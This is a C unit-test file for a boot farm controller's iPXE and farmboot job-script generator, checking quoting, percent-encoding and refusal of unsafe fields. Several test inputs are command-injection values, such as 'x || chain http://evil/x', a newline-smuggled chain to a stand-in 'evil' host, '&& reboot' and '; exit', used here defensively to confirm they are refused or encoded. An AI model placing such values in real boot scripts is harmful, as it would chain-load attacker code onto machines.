/*
 * test_boot.c - unit tests of the iPXE scripts and the farmboot job
 * scripts (controller/boot.c).
 *
 * The scripts are read back the way iPXE 1.0.0+git-20190125 reads them
 * (docs/boot.md, "Quoting"): lines at '\n', a trailing '\' joins lines,
 * tokens at whitespace, "||" "&&" ";" end a command, a token starting with
 * '#' starts a comment, "${...}" expands. Every injection attempt must
 * either be refused or leave exactly the expected command lines, and every
 * variable value must come back whole through setvar.efi's %XX decoding.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "boot.h"
#include "util.h"

/* A string literal where the API takes char * (it never writes to it). */
#define S(x) ((char *)(x))

#define SHA "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"

/* A script split into lines and whitespace-separated tokens. */
struct script {
	char *copy;
	size_t nlines;
	char *line[64];
	char *lcopy[64];        /* the tokens point into these */
	size_t ntok[64];
	char *tok[64][256];
};

/* Splits text as iPXE does; fails the test on bytes iPXE would read as
 * whitespace other than ' ' and '\n', and on continuation lines. */
static void
script_parse(struct script *sc, const char *text)
{
	char *p, *nl;
	size_t i;

	memset(sc, 0, sizeof(*sc));
	assert_true(strlen(text) > 0);
	assert_int_equal(text[strlen(text) - 1], '\n');
	for (p = (char *)text; *p; p++) {
		unsigned char c = (unsigned char)*p;

		assert_true(c == '\n' || (c >= 0x20 && c < 0x7f));
	}
	sc->copy = xstrdup(text);
	for (p = sc->copy; *p; p = nl + 1) {
		nl = strchr(p, '\n');
		*nl = '\0';
		assert_true(sc->nlines < 64);
		assert_false(nl > p && nl[-1] == '\\');
		sc->line[sc->nlines++] = p;
	}
	for (i = 0; i < sc->nlines; i++) {
		char *save = NULL, *t;

		sc->lcopy[i] = xstrdup(sc->line[i]);
		for (t = strtok_r(sc->lcopy[i], " ", &save); t;
		    t = strtok_r(NULL, " ", &save)) {
			assert_true(sc->ntok[i] < 256);
			sc->tok[i][sc->ntok[i]++] = t;
		}
	}
}

static void
script_free(struct script *sc)
{
	size_t i;

	for (i = 0; i < sc->nlines; i++)
		free(sc->lcopy[i]);
	free(sc->copy);
}

/* Number of tokens in line i that end a command for iPXE. */
static size_t
script_terminators(const struct script *sc, size_t i)
{
	size_t k, n = 0;

	for (k = 0; k < sc->ntok[i]; k++)
		if (strcmp(sc->tok[i][k], "||") == 0 || strcmp(sc->tok[i][k], "&&") == 0 ||
		    strcmp(sc->tok[i][k], ";") == 0)
			n++;
	return n;
}

/* 1 when every "${" in s opens one of the expansions the farm uses. */
static int
expansions_ok(const char *s)
{
	static const char *const ok[] = {
		"${netX/ip}", "${netX/netmask}", "${netX/gateway}", "${errno}",
		"${farm_rc}", "${netX/mac:hexhyp}",
	};
	const char *p;
	size_t i;

	for (p = strstr(s, "${"); p; p = strstr(p + 2, "${")) {
		for (i = 0; i < ARRAY_SIZE(ok); i++)
			if (strncmp(p, ok[i], strlen(ok[i])) == 0)
				break;
		if (i == ARRAY_SIZE(ok))
			return 0;
	}
	return 1;
}

/*
 * Checks that a job script has exactly the farm's command lines: the
 * commands, their separators, no comment or expansion brought in.
 */
static void
check_job_shape(const struct script *sc, int dtb)
{
	static const char *const with_dtb[] = { "#!ipxe", "#", "chain", "imgfetch",
		"chain", "imgfree", "chain", "exit", ":farm_failed", "chain", "exit" };
	static const size_t with_dtb_terms[] = { 0, 0, 1, 1, 2, 0, 0, 0, 0, 0, 0 };
	static const char *const no_dtb[] = { "#!ipxe", "#", "chain", "chain", "chain",
		"exit", ":farm_failed", "chain", "exit" };
	static const size_t no_dtb_terms[] = { 0, 0, 1, 2, 0, 0, 0, 0, 0 };
	const char *const *shape = dtb ? with_dtb : no_dtb;
	const size_t *terms = dtb ? with_dtb_terms : no_dtb_terms;
	size_t n = dtb ? ARRAY_SIZE(with_dtb) : ARRAY_SIZE(no_dtb), i, k;

	assert_int_equal(sc->nlines, n);
	for (i = 0; i < n; i++) {
		assert_true(sc->ntok[i] > 0);
		if (i == 1)
			assert_int_equal(sc->tok[i][0][0], '#');
		else
			assert_string_equal(sc->tok[i][0], shape[i]);
		if (i < 2)
			continue;
		assert_int_equal(script_terminators(sc, i), terms[i]);
		for (k = 0; k < sc->ntok[i]; k++) {
			assert_int_not_equal(sc->tok[i][k][0], '#');
			assert_true(expansions_ok(sc->tok[i][k]));
		}
	}
	/* The separators sit where the farm put them. */
	assert_string_equal(sc->tok[2][sc->ntok[2] - 3], "||");
	assert_string_equal(sc->tok[2][sc->ntok[2] - 2], "goto");
	assert_string_equal(sc->tok[2][sc->ntok[2] - 1], "farm_failed");
	i = dtb ? 4 : 3;
	assert_string_equal(sc->tok[i][sc->ntok[i] - 8], "&&");
	assert_string_equal(sc->tok[i][sc->ntok[i] - 4], "||");
	assert_string_equal(sc->tok[i][sc->ntok[i] - 1], "${errno}");
}

/* setvar.efi's rule: "%XX" (two hex digits, either case) is byte 0xXX,
 * every other byte stands for itself. NULL on a malformed escape. */
static char *
setvar_decode(const char *s)
{
	struct buf b = {0};

	for (; *s; s++) {
		if (*s == '%') {
			char h[3] = { s[1], s[1] ? s[2] : '\0', '\0' };
			char *end;
			unsigned long v;

			if (h[0] == '\0' || h[1] == '\0' || strspn(h, "0123456789abcdefABCDEF") != 2) {
				buf_free(&b);
				return NULL;
			}
			v = strtoul(h, &end, 16);
			buf_addc(&b, (char)v);
			s += 2;
		} else {
			buf_addc(&b, *s);
		}
	}
	return buf_steal(&b);
}

/* The value setvar.efi gets for name from the setvar line, decoded. */
static char *
setvar_value(const struct script *sc, const char *name)
{
	size_t k, n = strlen(name);

	for (k = 0; k < sc->ntok[2]; k++)
		if (strncmp(sc->tok[2][k], name, n) == 0 && sc->tok[2][k][n] == '=')
			return setvar_decode(sc->tok[2][k] + n + 1);
	return NULL;
}

static char *typical_args[] = { S("smp=2"), S("--verbose") };
static char *typical_env[] = { S("FARM_EXIT=reset"), S("GREETING=hello world&more") };

static struct boot_job
typical_job(void)
{
	struct boot_job b = {
		.server = "http://10.99.0.1:8080",
		.job = 12,
		.token = "3f2a9c0d",
		.machine = "vm-x86",
		.mac = "52:54:00:F0:00:01",
		.arch = "x86_64",
		.app_sha = SHA,
		.app_name = "selftest.efi",
		.args = typical_args,
		.nargs = 2,
		.env = typical_env,
		.nenv = 2,
		.dtb_url = "http://10.99.0.1:8080/jobs/12/dtb",
	};

	return b;
}

static const char typical_script[] =
    "#!ipxe\n"
    "# farm job 12 for vm-x86 (generated by farmd)\n"
    "chain --autofree http://10.99.0.1:8080/netboot/x86_64/setvar.efi"
    " FARM_SERVER=http://10.99.0.1:8080 FARM_JOB=12 FARM_TOKEN=3f2a9c0d"
    " FARM_MACHINE=vm-x86 FARM_IP=${netX/ip} FARM_NETMASK=${netX/netmask}"
    " FARM_GATEWAY=${netX/gateway} FARM_EXIT=reset GREETING=hello%20world%26more"
    " fdtfile=farm.dtb || goto farm_failed\n"
    "imgfetch --name farm.dtb http://10.99.0.1:8080/jobs/12/dtb || goto farm_failed\n"
    "chain --autofree --name selftest.efi http://10.99.0.1:8080/apps/" SHA ".efi?job=12"
    " smp=2 --verbose && set farm_rc 0 || set farm_rc ${errno}\n"
    "imgfree farm.dtb\n"
    "chain --replace --autofree http://10.99.0.1:8080/ipxe/52-54-00-f0-00-01/done"
    "?job=12&token=3f2a9c0d&rc=${farm_rc}\n"
    "exit\n"
    ":farm_failed\n"
    "chain --replace --autofree http://10.99.0.1:8080/ipxe/52-54-00-f0-00-01/done"
    "?job=12&token=3f2a9c0d&rc=${errno}&stage=setup\n"
    "exit\n";

static void
test_job_golden(void **state)
{
	struct boot_job b = typical_job();
	struct script sc;
	char *cause = NULL, *s = boot_ipxe_job(&b, &cause), *v;

	(void)state;
	assert_null(cause);
	assert_non_null(s);
	assert_string_equal(s, typical_script);
	script_parse(&sc, s);
	check_job_shape(&sc, 1);
	v = setvar_value(&sc, "GREETING");
	assert_string_equal(v, "hello world&more");
	free(v);
	v = setvar_value(&sc, "FARM_SERVER");
	assert_string_equal(v, "http://10.99.0.1:8080");
	free(v);
	script_free(&sc);
	free(s);
}

static void
test_job_minimal(void **state)
{
	struct boot_job b = typical_job();
	struct script sc;
	char *cause = NULL, *s;

	(void)state;
	b.server = "https://farm.example:8443/lab/";  /* trailing '/' dropped */
	b.app_name = NULL;
	b.args = NULL;
	b.nargs = 0;
	b.env = NULL;
	b.nenv = 0;
	b.dtb_url = NULL;
	s = boot_ipxe_job(&b, &cause);
	assert_non_null(s);
	assert_string_equal(s,
	    "#!ipxe\n"
	    "# farm job 12 for vm-x86 (generated by farmd)\n"
	    "chain --autofree https://farm.example:8443/lab/netboot/x86_64/setvar.efi"
	    " FARM_SERVER=https://farm.example:8443/lab FARM_JOB=12 FARM_TOKEN=3f2a9c0d"
	    " FARM_MACHINE=vm-x86 FARM_IP=${netX/ip} FARM_NETMASK=${netX/netmask}"
	    " FARM_GATEWAY=${netX/gateway} || goto farm_failed\n"
	    "chain --autofree https://farm.example:8443/lab/apps/" SHA ".efi?job=12"
	    " && set farm_rc 0 || set farm_rc ${errno}\n"
	    "chain --replace --autofree https://farm.example:8443/lab/ipxe/52-54-00-f0-00-01"
	    "/done?job=12&token=3f2a9c0d&rc=${farm_rc}\n"
	    "exit\n"
	    ":farm_failed\n"
	    "chain --replace --autofree https://farm.example:8443/lab/ipxe/52-54-00-f0-00-01"
	    "/done?job=12&token=3f2a9c0d&rc=${errno}&stage=setup\n"
	    "exit\n");
	script_parse(&sc, s);
	check_job_shape(&sc, 0);
	script_free(&sc);
	free(s);
}

/* Arguments the quoting rule lets through unchanged. */
static void
test_check_arg_accepts(void **state)
{
	static const char *const ok[] = {
		"a", "-v", "--x=1", "smp=2", "a#b", "x}", "{x}", "$", "a$", "$x",
		"%41", "~/:,@+", "()[]*!?<>^`=", "-", "--", ":label", "0",
	};
	char big[257];
	char *cause = NULL;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(ok); i++) {
		assert_int_equal(boot_check_arg(ok[i], &cause), 0);
		assert_null(cause);
	}
	memset(big, 'x', 256);
	big[256] = '\0';
	assert_int_equal(boot_check_arg(big, &cause), 0);
}

/* Arguments that could change the script, with what the cause must say. */
static void
test_check_arg_refuses(void **state)
{
	static const struct { const char *arg, *cause; } bad[] = {
		{ "a b", "space (0x20) at offset 1" },
		{ "a\tb", "tab (0x09) at offset 1" },
		{ "a\nchain http://evil/x", "newline (0x0a) at offset 1" },
		{ "x\r", "carriage return (0x0d) at offset 1" },
		{ "x\x01", "control byte 0x01 at offset 1" },
		{ "\x7f", "control byte 0x7f at offset 0" },
		{ "caf\xc3\xa9", "non-ASCII byte 0xc3 at offset 3" },
		{ "${farm_rc}", "'$' (0x24) at offset 0" },
		{ "a${b}", "'$' (0x24) at offset 1" },
		{ "||", "'|' (0x7c) at offset 0" },
		{ "&&", "'&' (0x26) at offset 0" },
		{ "a|b", "'|' (0x7c) at offset 1" },
		{ "a&b", "'&' (0x26) at offset 1" },
		{ ";", "';' (0x3b) at offset 0" },
		{ "#x", "'#' (0x23) at offset 0" },
		{ "\"q\"", "'\"' (0x22) at offset 0" },
		{ "it's", "''' (0x27) at offset 2" },
		{ "a\\", "'\\' (0x5c) at offset 1" },
		{ "", "empty argument" },
	};
	char big[258], *cause;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(bad); i++) {
		cause = NULL;
		assert_int_equal(boot_check_arg(bad[i].arg, &cause), -1);
		assert_non_null(cause);
		if (strstr(cause, bad[i].cause) == NULL)
			fail_msg("argument %zu: cause \"%s\" lacks \"%s\"", i, cause,
			    bad[i].cause);
		free(cause);
	}
	memset(big, 'x', 257);
	big[257] = '\0';
	cause = NULL;
	assert_int_equal(boot_check_arg(big, &cause), -1);
	assert_non_null(strstr(cause, "257 bytes"));
	free(cause);
}

static void
test_check_env(void **state)
{
	static const char *const ok[] = {
		"A=1", "_x=", "K=a b\n${x} || exit", "FARM_EXIT=reset", "a1_B2=%", "K==",
	};
	static const struct { const char *env, *cause; } bad[] = {
		{ "=x", "empty name" },
		{ "1A=x", "'1' (0x31) at offset 0" },
		{ "A-B=x", "'-' (0x2d) at offset 1" },
		{ "A B=x", "space (0x20) at offset 1" },
		{ "noequals", "without '='" },
		{ "FARM_TOKEN=x", "FARM_TOKEN is set by the farm" },
		{ "FARM_IP=1.2.3.4", "FARM_IP is set by the farm" },
		{ "fdtfile=x.dtb", "fdtfile is set by the farm" },
	};
	char key[80], val[1100];
	char *cause = NULL;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(ok); i++) {
		assert_int_equal(boot_check_env(ok[i], &cause), 0);
		assert_null(cause);
	}
	for (i = 0; i < ARRAY_SIZE(bad); i++) {
		cause = NULL;
		assert_int_equal(boot_check_env(bad[i].env, &cause), -1);
		if (strstr(cause, bad[i].cause) == NULL)
			fail_msg("env %zu: cause \"%s\" lacks \"%s\"", i, cause, bad[i].cause);
		free(cause);
	}
	memset(key, 'K', 64);
	strcpy(key + 64, "=v");
	assert_int_equal(boot_check_env(key, &cause), 0);
	memset(key, 'K', 65);
	strcpy(key + 65, "=v");
	assert_int_equal(boot_check_env(key, &cause), -1);
	free(cause);
	strcpy(val, "V=");
	for (i = 0; i < 512; i++)
		memcpy(val + 2 + 2 * i, "\xc3\xa9", 2);
	val[1026] = '\0';
	assert_int_equal(boot_check_env(val, &cause), 0);
	strcpy(val + 1026, "x");
	assert_int_equal(boot_check_env(val, &cause), -1);
	assert_non_null(strstr(cause, "1025 bytes"));
	free(cause);
}

/* setvar.efi stores values as UTF-16 text: a value must be UTF-8. */
static void
test_check_env_utf8(void **state)
{
	static const char *const ok[] = {
		"V=caf\xc3\xa9", "V=\xe2\x82\xac", "V=\xf0\x9f\x98\x80",
		"V=\xf4\x8f\xbf\xbf", "V=\x7f\x01",
	};
	static const struct { const char *env, *cause; } bad[] = {
		{ "V=\xff", "byte 0xff at offset 0" },
		{ "V=ab\xc3", "byte 0xc3 at offset 2" },
		{ "V=\xc3x", "byte 0xc3 at offset 0" },
		{ "V=\xc0\xaf", "byte 0xc0 at offset 0" },            /* overlong */
		{ "V=\xe0\x80\xaf", "byte 0xe0 at offset 0" },        /* overlong */
		{ "V=\xed\xa0\x80", "byte 0xed at offset 0" },        /* surrogate */
		{ "V=a\xf4\x90\x80\x80", "byte 0xf4 at offset 1" },  /* > U+10FFFF */
		{ "V=\x80", "byte 0x80 at offset 0" },
	};
	char *cause = NULL;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(ok); i++) {
		assert_int_equal(boot_check_env(ok[i], &cause), 0);
		assert_null(cause);
	}
	for (i = 0; i < ARRAY_SIZE(bad); i++) {
		cause = NULL;
		assert_int_equal(boot_check_env(bad[i].env, &cause), -1);
		if (strstr(cause, bad[i].cause) == NULL || strstr(cause, "UTF-8") == NULL)
			fail_msg("env %zu: cause \"%s\" lacks \"%s\"", i, cause, bad[i].cause);
		free(cause);
	}
}

static void
test_encode(void **state)
{
	static const struct { const char *in, *out; } cases[] = {
		{ "", "" },
		{ "plain-Value_1.2~/:,@+", "plain-Value_1.2~/:,@+" },
		{ "a b", "a%20b" },
		{ "100%", "100%25" },
		{ "${x}", "%24%7Bx%7D" },
		{ "a||b&&c;#d", "a%7C%7Cb%26%26c%3B%23d" },
		{ "\"'\\\n\r\t", "%22%27%5C%0A%0D%09" },
		{ "caf\xc3\xa9", "caf%C3%A9" },
		{ "=", "%3D" },
	};
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(cases); i++) {
		char *e = boot_encode_value(cases[i].in);

		assert_string_equal(e, cases[i].out);
		free(e);
	}
}

/* Every byte value, and random strings, survive encode + setvar's decode,
 * and the encoded text uses only bytes with no meaning to iPXE. */
static void
test_encode_roundtrip(void **state)
{
	unsigned char all[256];
	char *e, *d;
	unsigned int seed = 12345;
	size_t i, k;

	(void)state;
	for (i = 0; i < 255; i++)
		all[i] = (unsigned char)(i + 1);
	all[255] = '\0';
	e = boot_encode_value((char *)all);
	assert_int_equal(strspn(e, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
	    "0123456789._~/:,@+-%"), strlen(e));
	d = setvar_decode(e);
	assert_non_null(d);
	assert_memory_equal(d, all, 256);
	free(e);
	free(d);
	for (k = 0; k < 500; k++) {
		char s[64];
		size_t n = (size_t)(rand_r(&seed) % 63);

		for (i = 0; i < n; i++)
			s[i] = (char)(rand_r(&seed) % 255 + 1);
		s[n] = '\0';
		e = boot_encode_value(s);
		d = setvar_decode(e);
		assert_string_equal(d, s);
		free(e);
		free(d);
	}
}

/* Arguments that try to add commands are refused, naming the argument. */
static void
test_job_refuses_injected_args(void **state)
{
	static const char *const attacks[] = {
		"x || chain http://evil/x", "x\nchain http://evil/x", "||", "&&", ";",
		"#", "${errno}", "a\\", "\"a b\"", "\r", "caf\xc3\xa9", "",
	};
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(attacks); i++) {
		char *args[] = { S("ok"), S(attacks[i]) };
		struct boot_job b = typical_job();
		char *cause = NULL, *s;

		b.args = args;
		b.nargs = 2;
		s = boot_ipxe_job(&b, &cause);
		assert_null(s);
		assert_non_null(cause);
		assert_true(strncmp(cause, "args[1]: ", 9) == 0);
		free(cause);
	}
}

/* Fills s with random UTF-8 text of at most max bytes (plus the NUL):
 * any code point from U+0001 to U+10FFFF but the surrogates. */
static void
random_utf8(unsigned int *seed, char *s, size_t max)
{
	size_t n = 0, want = (size_t)rand_r(seed) % (max + 1);

	while (n < want) {
		uint32_t cp;
		char e[4];
		size_t len;

		switch (rand_r(seed) % 4) {
		case 0: cp = (uint32_t)(rand_r(seed) % 0x7f + 1); break;
		case 1: cp = (uint32_t)(rand_r(seed) % (0x800 - 0x80) + 0x80); break;
		case 2: cp = (uint32_t)(rand_r(seed) % (0x10000 - 0x800) + 0x800); break;
		default: cp = (uint32_t)(rand_r(seed) % (0x110000 - 0x10000) + 0x10000); break;
		}
		if (cp >= 0xd800 && cp < 0xe000)
			continue;
		if (cp < 0x80) {
			e[0] = (char)cp;
			len = 1;
		} else if (cp < 0x800) {
			e[0] = (char)(0xc0 | cp >> 6);
			e[1] = (char)(0x80 | (cp & 0x3f));
			len = 2;
		} else if (cp < 0x10000) {
			e[0] = (char)(0xe0 | cp >> 12);
			e[1] = (char)(0x80 | ((cp >> 6) & 0x3f));
			e[2] = (char)(0x80 | (cp & 0x3f));
			len = 3;
		} else {
			e[0] = (char)(0xf0 | cp >> 18);
			e[1] = (char)(0x80 | ((cp >> 12) & 0x3f));
			e[2] = (char)(0x80 | ((cp >> 6) & 0x3f));
			e[3] = (char)(0x80 | (cp & 0x3f));
			len = 4;
		}
		if (n + len > want)
			break;
		memcpy(s + n, e, len);
		n += len;
	}
	s[n] = '\0';
}

/* Whatever a variable's value holds, the script keeps its lines and the
 * value arrives whole. */
static void
test_job_encodes_env(void **state)
{
	static const char *const values[] = {
		"x || chain http://evil/x", "x\nchain http://evil/x\n", "\\", "a\\",
		"${errno}", "${${x}}", "#comment", "; exit", "&& reboot", "\"quoted\" 'q'",
		"caf\xc3\xa9 \xe2\x82\xac", "\r\n:farm_failed\r\n", " leading and trailing ",
		"%41%", "",
	};
	unsigned int seed = 99;
	size_t i;

	(void)state;
	for (i = 0; i < ARRAY_SIZE(values) + 300; i++) {
		char value[1025], *env[2], *args[] = { S("a") }, *cause = NULL, *s, *v;
		struct boot_job b = typical_job();
		struct script sc;

		if (i < ARRAY_SIZE(values)) {
			strcpy(value, values[i]);
		} else {
			random_utf8(&seed, value, 1024);
		}
		env[0] = xasprintf("V=%s", value);
		env[1] = S("W=end");
		b.env = env;
		b.nenv = 2;
		b.args = args;
		b.nargs = 1;
		s = boot_ipxe_job(&b, &cause);
		assert_null(cause);
		assert_non_null(s);
		script_parse(&sc, s);
		check_job_shape(&sc, 1);
		v = setvar_value(&sc, "V");
		assert_non_null(v);
		assert_string_equal(v, value);
		free(v);
		v = setvar_value(&sc, "W");
		assert_string_equal(v, "end");
		free(v);
		/* The app gets exactly its argument. */
		assert_string_equal(sc.tok[4][sc.ntok[4] - 9], "a");
		script_free(&sc);
		free(s);
		free(env[0]);
	}
}

/* The app's argv after the URL is exactly the job's arguments. */
static void
test_job_args_exact(void **state)
{
	char *args[64], big[257];
	struct boot_job b = typical_job();
	struct script sc;
	char *cause = NULL, *s;
	size_t i, first;

	(void)state;
	memset(big, 'z', 256);
	big[256] = '\0';
	for (i = 0; i < 64; i++)
		args[i] = i == 63 ? big : S(i % 2 ? "-x" : "k=v}{$");
	b.args = args;
	b.nargs = 64;
	s = boot_ipxe_job(&b, &cause);
	assert_non_null(s);
	script_parse(&sc, s);
	check_job_shape(&sc, 1);
	first = 5;  /* after: chain --autofree --name NAME URL */
	assert_int_equal(sc.ntok[4], first + 64 + 8);
	for (i = 0; i < 64; i++)
		assert_string_equal(sc.tok[4][first + i], args[i]);
	script_free(&sc);
	free(s);
	b.nargs = 65;
	assert_null(boot_ipxe_job(&b, &cause));
	assert_non_null(strstr(cause, "at most 64"));
	free(cause);
}

/* Every other field is checked; the cause names it. */
static void
test_job_bad_fields(void **state)
{
	static char *dup_env[] = { S("A=1"), S("A=2") };
	static char *farm_env[] = { S("FARM_JOB=1") };
	static char *null_args[] = { NULL };
	size_t n = 0;

	(void)state;
	/* Runs body on a typical job and expects a refusal naming field. */
#define CASE(field, body)                                                      \
	do {                                                                   \
		struct boot_job b = typical_job();                             \
		char *cause = NULL, *s;                                        \
		body;                                                          \
		s = boot_ipxe_job(&b, &cause);                                 \
		if (s != NULL || cause == NULL || strstr(cause, field) != cause) \
			fail_msg("case %s: got cause \"%s\"", field,          \
			    cause ? cause : "(none)");                         \
		free(cause);                                                   \
		free(s);                                                       \
		n++;                                                           \
	} while (0)
	CASE("server", b.server = "ftp://10.99.0.1");
	CASE("server", b.server = "http://");
	CASE("server", b.server = "http:///x");
	CASE("server", b.server = "http://a b");
	CASE("server", b.server = "http://x/${y}");
	CASE("server", b.server = "http://x/?a=b");
	CASE("server", b.server = NULL);
	CASE("job", b.job = 0);
	CASE("token", b.token = "a&rc=0");
	CASE("token", b.token = "");
	CASE("machine", b.machine = "vm x86");
	CASE("machine", b.machine = "vm\\");
	CASE("mac", b.mac = "52:54:00:f0:00");
	CASE("mac", b.mac = "52:54:00:f0:00:01\n");
	CASE("arch", b.arch = "x86/64");
	CASE("app_sha", b.app_sha = "E3B0");
	CASE("app_sha", b.app_sha = SHA "0");
	CASE("app_name", b.app_name = "my app.efi");
	CASE("app_name", b.app_name = "farm.dtb");
	CASE("args[0]", (b.args = null_args, b.nargs = 1));
	CASE("args", (b.args = NULL, b.nargs = 1));
	CASE("env[1]", (b.env = dup_env, b.nenv = 2));
	CASE("env[0]", (b.env = farm_env, b.nenv = 1));
	CASE("dtb_url", b.dtb_url = "http://x/d tb");
	CASE("dtb_url", b.dtb_url = "http://x/${y}");
	CASE("dtb_url", b.dtb_url = "file:///x");
#undef CASE
	assert_int_equal(n, 26);
}

/* The farmboot job format (docs/boot.md, "farmboot job format"): the same
 * job, with fdtfile naming the DTB's file on the app's device as in the
 * iPXE script. */
static void
test_farmboot_job_golden(void **state)
{
	struct boot_job b = typical_job();
	char *cause = NULL, *s = boot_farmboot_job(&b, &cause);

	(void)state;
	assert_null(cause);
	assert_non_null(s);
	assert_string_equal(s,
	    "farmboot 1\n"
	    "# farm job 12 for vm-x86 (generated by farmd)\n"
	    "job 12\n"
	    "var FARM_SERVER http://10.99.0.1:8080\n"
	    "var FARM_JOB 12\n"
	    "var FARM_TOKEN 3f2a9c0d\n"
	    "var FARM_MACHINE vm-x86\n"
	    "var FARM_EXIT reset\n"
	    "var GREETING hello%20world%26more\n"
	    "var fdtfile farm.dtb\n"
	    "dtb http://10.99.0.1:8080/jobs/12/dtb\n"
	    "app http://10.99.0.1:8080/apps/" SHA ".efi?job=12 selftest.efi\n"
	    "arg smp%3D2\n"
	    "arg --verbose\n"
	    "done http://10.99.0.1:8080/farmboot/52-54-00-f0-00-01/done?job=12"
	    "&token=3f2a9c0d\n");
	free(s);
}

/* Without a DTB there is neither a dtb line nor fdtfile; the app gets a
 * default name. */
static void
test_farmboot_job_minimal(void **state)
{
	struct boot_job b = typical_job();
	char *cause = NULL, *s;

	(void)state;
	b.app_name = NULL;
	b.args = NULL;
	b.nargs = 0;
	b.env = NULL;
	b.nenv = 0;
	b.dtb_url = NULL;
	s = boot_farmboot_job(&b, &cause);
	assert_null(cause);
	assert_non_null(s);
	assert_string_equal(s,
	    "farmboot 1\n"
	    "# farm job 12 for vm-x86 (generated by farmd)\n"
	    "job 12\n"
	    "var FARM_SERVER http://10.99.0.1:8080\n"
	    "var FARM_JOB 12\n"
	    "var FARM_TOKEN 3f2a9c0d\n"
	    "var FARM_MACHINE vm-x86\n"
	    "app http://10.99.0.1:8080/apps/" SHA ".efi?job=12 app.efi\n"
	    "done http://10.99.0.1:8080/farmboot/52-54-00-f0-00-01/done?job=12"
	    "&token=3f2a9c0d\n");
	assert_null(strstr(s, "fdtfile"));
	free(s);
}

/* A job field that is refused for iPXE is refused for farmboot too. */
static void
test_farmboot_job_refuses(void **state)
{
	struct boot_job b = typical_job();
	char *cause = NULL;

	(void)state;
	b.app_name = "farm.dtb";
	assert_null(boot_farmboot_job(&b, &cause));
	assert_non_null(strstr(cause, "farm.dtb is the DTB's name"));
	free(cause);
}

/* farmboot's idle answer; always on, it polls every second as iPXE's loop
 * does (a machine resumed from a state saved in that wait asks at once). */
static void
test_farmboot_idle(void **state)
{
	char *s;

	(void)state;
	s = boot_farmboot_idle(0);
	assert_string_equal(s, "farmboot 1\nidle\n");
	free(s);
	s = boot_farmboot_idle(1);
	assert_string_equal(s, "farmboot 1\npoll 1\n");
	free(s);
}

static void
test_idle(void **state)
{
	char *s;

	(void)state;
	s = boot_ipxe_idle(0, NULL);
	assert_string_equal(s, "#!ipxe\nexit\n");
	free(s);
	s = boot_ipxe_idle(0, "http://10.99.0.1:8080/ipxe/52-54-00-f0-00-01");
	assert_string_equal(s, "#!ipxe\nexit\n");
	free(s);
	s = boot_ipxe_idle(1, "http://10.99.0.1:8080/ipxe/52-54-00-f0-00-01");
	assert_string_equal(s,
	    "#!ipxe\n"
	    "# farm idle loop (generated by farmd): ask for work every 1 s\n"
	    ":farm_poll\n"
	    "sleep 1\n"
	    "chain --replace --autofree http://10.99.0.1:8080/ipxe/52-54-00-f0-00-01"
	    " && exit || goto farm_poll\n");
	free(s);
	/* Without a usable URL the machine boots locally rather than spin. */
	s = boot_ipxe_idle(1, NULL);
	assert_string_equal(s, "#!ipxe\nexit\n");
	free(s);
	s = boot_ipxe_idle(1, "http://x/\nreboot");
	assert_string_equal(s, "#!ipxe\nexit\n");
	free(s);
	s = boot_ipxe_idle(1, "http://x/${y}");
	assert_string_equal(s, "#!ipxe\nexit\n");
	free(s);
}

/* netboot/boot.ipxe and boot_ipxe_first() are the same text. */
static void
test_first_matches_file(void **state)
{
	char *dir = xstrdup(__FILE__), *slash = strrchr(dir, '/'), *path, *text;
	const char *src = getenv("FARM_SRCDIR");

	(void)state;
	if (slash)
		*slash = '\0';
	if (src)
		path = xasprintf("%s/netboot/boot.ipxe", src);
	else
		path = xasprintf("%s/../../netboot/boot.ipxe", slash ? dir : ".");
	text = read_file(path, NULL);
	if (text == NULL) {
		free(path);
		path = xstrdup("netboot/boot.ipxe");
		text = read_file(path, NULL);
	}
	free(path);
	free(dir);
	if (text == NULL)
		fail_msg("cannot read netboot/boot.ipxe (run from the source tree or"
		    " set FARM_SRCDIR)");
	assert_string_equal(text, boot_ipxe_first());
	free(text);
}

static void
test_first_shape(void **state)
{
	struct script sc;
	size_t i, commands = 0;

	(void)state;
	script_parse(&sc, boot_ipxe_first());
	assert_string_equal(sc.line[0], "#!ipxe");
	for (i = 1; i < sc.nlines; i++) {
		if (sc.ntok[i] == 0 || sc.tok[i][0][0] == '#')
			continue;
		commands++;
		assert_int_equal(sc.ntok[i], 4);
		assert_string_equal(sc.line[i],
		    "chain --replace --autofree ipxe/${netX/mac:hexhyp}?arch=${buildarch}&platform=${platform}");
	}
	assert_int_equal(commands, 1);
	script_free(&sc);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_job_golden),
		cmocka_unit_test(test_job_minimal),
		cmocka_unit_test(test_check_arg_accepts),
		cmocka_unit_test(test_check_arg_refuses),
		cmocka_unit_test(test_check_env),
		cmocka_unit_test(test_check_env_utf8),
		cmocka_unit_test(test_encode),
		cmocka_unit_test(test_encode_roundtrip),
		cmocka_unit_test(test_job_refuses_injected_args),
		cmocka_unit_test(test_job_encodes_env),
		cmocka_unit_test(test_job_args_exact),
		cmocka_unit_test(test_job_bad_fields),
		cmocka_unit_test(test_farmboot_job_golden),
		cmocka_unit_test(test_farmboot_job_minimal),
		cmocka_unit_test(test_farmboot_job_refuses),
		cmocka_unit_test(test_farmboot_idle),
		cmocka_unit_test(test_idle),
		cmocka_unit_test(test_first_matches_file),
		cmocka_unit_test(test_first_shape),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
